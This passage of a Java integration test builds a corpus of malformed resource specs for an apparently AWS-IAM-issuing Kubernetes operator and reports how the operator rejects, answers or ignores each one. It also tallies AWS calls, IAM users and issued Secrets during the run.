    for (Kind kind : Kind.values()) {
      all.addAll(fields(kind));
    }
    Map<String, List<Mutation>> catalogue = catalogue(all);
    List<String> uncovered = new ArrayList<>();
    List<List<Mutation>> perField = new ArrayList<>();
    for (Field f : all) {
      if (bases.baseFor(f) == null) {
        uncovered.add(f + ": no valid base sets it");
        continue;
      }
      List<Mutation> ms = mutations(f, catalogue, random);
      boolean valueMutation = ms.stream().anyMatch(m -> !m.category().equals("wrong type"));
      String type = f.schema().path("type").asText("");
      if (f.leaf() && !type.equals("boolean") && !valueMutation) {
        uncovered.add(f + ": no bad-value mutation (add one to the catalogue)");
      }
      perField.add(ms);
    }
    assertThat(uncovered).as("fields the corpus does not mutate").isEmpty();
    List<Spec> corpus = new ArrayList<>();
    for (List<Mutation> ms : perField) {
      // one of each category the field has
      Map<String, Mutation> one = new LinkedHashMap<>();
      ms.forEach(m -> one.putIfAbsent(m.category(), m));
      for (Mutation m : one.values()) {
        corpus.add(apply(corpus.size(), bases, m, run));
      }
    }
    System.out.printf(
        Locale.ROOT,
        "bad-input corpus: %d fields over 4 kinds, %d systematic specs%n",
        perField.size(),
        corpus.size());
    while (corpus.size() < SPECS) {
      List<Mutation> ms = perField.get(random.nextInt(perField.size()));
      Field f = ms.get(0).field();
      // a fresh draw of the field's random values, then one of its mutations
      List<Mutation> fresh = mutations(f, catalogue, random);
      corpus.add(apply(corpus.size(), bases, fresh.get(random.nextInt(fresh.size())), run));
    }
    return corpus;
  }

  // --- running the corpus -------------------------------------------------------------------

  static MixedOperation<GenericKubernetesResource, ?, Resource<GenericKubernetesResource>>
      resources(KubernetesClient client, Kind kind) {
    return client.genericKubernetesResources(API_VERSION, kind.kind);
  }

  static GenericKubernetesResource create(KubernetesClient client, Kind kind, ObjectNode body) {
    GenericKubernetesResource r = JSON.convertValue(body, GenericKubernetesResource.class);
    var op = resources(client, kind);
    return kind.namespaced ? op.inNamespace(NS).resource(r).create() : op.resource(r).create();
  }

  static Outcome submit(KubernetesClient client, Spec spec) {
    Outcome o = new Outcome(spec);
    try {
      o.uid = create(client, spec.kind(), spec.body()).getMetadata().getUid();
    } catch (KubernetesClientException e) {
      o.rejected =
          e.getStatus() != null && e.getStatus().getMessage() != null
              ? e.getStatus().getMessage()
              : String.valueOf(e.getMessage());
    } catch (IllegalArgumentException e) {
      // the client itself refused it (e.g. a name it cannot put in a URL): never sent
      o.rejected = "client: " + e.getMessage();
    }
    return o;
  }

  static GenericKubernetesResource get(KubernetesClient client, Kind kind, String name) {
    var op = resources(client, kind);
    return kind.namespaced ? op.inNamespace(NS).withName(name).get() : op.withName(name).get();
  }

  static boolean ready(KubernetesClient client, Kind kind, String name) {
    JsonNode c = condition(get(client, kind, name), "Ready");
    return c != null && "True".equals(c.path("status").asText());
  }

  static JsonNode condition(GenericKubernetesResource r, String type) {
    if (r == null) {
      return null;
    }
    JsonNode status = JSON.valueToTree(r.getAdditionalProperties().get("status"));
    for (JsonNode c : status.path("conditions")) {
      if (type.equals(c.path("type").asText())) {
        return c;
      }
    }
    return null;
  }

  /** Refreshes the outcome of every accepted spec; true when all have a Ready condition. */
  static boolean answered(KubernetesClient client, List<Outcome> accepted) {
    boolean all = true;
    for (Outcome o : accepted) {
      if (o.reason != null && !"Unknown".equals(o.conditionStatus)) {
        continue;
      }
      JsonNode c = condition(get(client, o.spec.kind(), o.spec.name()), "Ready");
      if (c == null || c.path("reason").asText("").isEmpty()) {
        all = false;
        continue;
      }
      o.reason = c.path("reason").asText();
      o.conditionStatus = c.path("status").asText();
    }
    return all;
  }

  static Map<String, Set<String>> eventReasonsByUid(KubernetesClient client) {
    Map<String, Set<String>> out = new LinkedHashMap<>();
    for (String ns : List.of(NS, "default")) {
      for (Event e : client.events().v1().events().inNamespace(ns).list().getItems()) {
        if (e.getRegarding() != null && e.getRegarding().getUid() != null) {
          out.computeIfAbsent(e.getRegarding().getUid(), k -> new java.util.HashSet<>())
              .add(e.getReason());
        }
      }
    }
    return out;
  }

  static Set<String> iamUsers(TestEnvironment env) {
    try (IamClient iam = Aws.iam(env, env.accountA())) {
      return iam.listUsersPaginator(r -> r.maxItems(1000)).users().stream()
          .map(u -> u.userName())
          .collect(Collectors.toCollection(java.util.TreeSet::new));
    }
  }

  /** Secrets of this run's corpus (named {@code bi<n>-<run>}) holding keys. */
  static List<String> issuedSecrets(KubernetesClient client, String run) {
    return client.secrets().inNamespace(NS).list().getItems().stream()
        .filter(s -> s.getMetadata().getName().matches("bi[0-9]+-" + run))
        .filter(s -> s.getData() != null && s.getData().containsKey("AWS_ACCESS_KEY_ID"))
        .map(s -> s.getMetadata().getName())
        .toList();
  }

  // --- figures ------------------------------------------------------------------------------

  static final class Report {
    final List<String> rejectedWithoutField = new ArrayList<>();
    final List<String> acceptedAsValid = new ArrayList<>();
    final List<String> silent = new ArrayList<>();
    final List<String> noEvent = new ArrayList<>();
    final Map<Kind, int[]> perKind = new LinkedHashMap<>(); // generated, rejected, answered
    final Map<String, Integer> reasons = new TreeMap<>();
    final Map<String, Integer> categories = new TreeMap<>();
    final List<Outcome> outcomes;

    Report(List<Spec> corpus, List<Outcome> outcomes, Map<String, Set<String>> events) {
      this.outcomes = outcomes;
      for (Kind k : Kind.values()) {
        perKind.put(k, new int[3]);
      }
      for (Outcome o : outcomes) {
        Mutation m = o.spec.mutation();
        int[] row = perKind.get(o.spec.kind());
        row[0]++;
        categories.merge(m.category(), 1, Integer::sum);
        String what = o.spec.name() + " " + m.field() + " [" + m.category() + "] " + shown(m);
        if (o.rejected != null) {
          row[1]++;
          if (!o.rejected.contains(m.field().named())) {
            rejectedWithoutField.add(what + " -> " + o.rejected);
          }
        } else if (o.reason == null) {
          silent.add(what);
        } else if ("True".equals(o.conditionStatus)) {
          acceptedAsValid.add(what + " -> Ready=True " + o.reason);
        } else {
          row[2]++;
          reasons.merge(o.spec.kind().kind + "/" + o.reason, 1, Integer::sum);
          if (!events.getOrDefault(o.uid, Set.of()).contains(o.reason)) {
            noEvent.add(what + " -> " + o.reason);
          }
        }
      }
    }

    static String shown(Mutation m) {
      String v = m.value().toString();
      v = v.replace("\n", "\\n").replace("\r", "\\r").replace("\u0000", "\\0");
      return v.length() > 60 ? v.substring(0, 57) + "...(" + v.length() + ")" : v;
    }

    void print(
        Duration took,
        Map<String, Long> calls,
        Map<String, Long> configCalls,
        long periodic,
        long badCalls,
        Set<String> newUsers,
        List<String> issued) {
      System.out.println();
      System.out.printf(
          Locale.ROOT,
          "Bad-input suite: seed %d, %d specs, corpus and answers in %.1fs%n",
          SEED,
          outcomes.size(),
          took.toMillis() / 1000.0);
      System.out.printf(
          Locale.ROOT,
          "%-22s %9s %9s %9s %7s %11s%n",
          "kind",
          "generated",
          "rejected",
          "answered",
          "silent",
          "Ready=True");
      for (Map.Entry<Kind, int[]> e : perKind.entrySet()) {
        String k = e.getKey().kind;
        System.out.printf(
            Locale.ROOT,
            "%-22s %9d %9d %9d %7d %11d%n",
            k,
            e.getValue()[0],
            e.getValue()[1],
            e.getValue()[2],
            silent.stream().filter(s -> s.contains(" " + k + " ")).count(),
            acceptedAsValid.stream().filter(s -> s.contains(" " + k + " ")).count());
      }
      System.out.println("mutations by category: " + categories);
      System.out.println("answered by reason: " + reasons);
      System.out.println(
          "AWS calls during the corpus: "
              + badCalls
              + " for bad input (valid config's proxy: "
              + calls
              + ", of which "
              + periodic
              + " its own periodic GetCallerIdentity; mutant configs' proxy: "
              + configCalls
              + ")");
      System.out.println(
          "issued: " + issued.size() + " Secrets with keys, " + newUsers.size() + " IAM users");
      List<String> sample =
          outcomes.stream()
              .filter(o -> o.rejected != null)
              .limit(5)
              .map(o -> "  " + o.spec.mutation().field() + " -> " + o.rejected)
              .toList();
      System.out.println("accepted specs and their answers (count):");
      Map<String, Integer> answers = new TreeMap<>();
      for (Outcome o : outcomes) {
        if (o.rejected == null) {
          Mutation m = o.spec.mutation();
          answers.merge(
              String.format(
                  Locale.ROOT,
                  "%s [%s] %s -> Ready=%s %s",
                  m.field(),
                  m.category(),
                  shown(m),
                  o.conditionStatus,
                  o.reason),
              1,
              Integer::sum);
        }
      }
      answers.forEach((line, n) -> System.out.printf(Locale.ROOT, "  %4d  %s%n", n, line));
      System.out.println("sample rejections:");
      sample.forEach(System.out::println);
      for (String[] list :
          new String[][] {
            rejectedWithoutField.toArray(String[]::new),
            acceptedAsValid.toArray(String[]::new),
            silent.toArray(String[]::new),
            noEvent.toArray(String[]::new)
          }) {
        for (String line : list) {
          System.out.println("FINDING " + line);
        }
      }
    }
  }
}
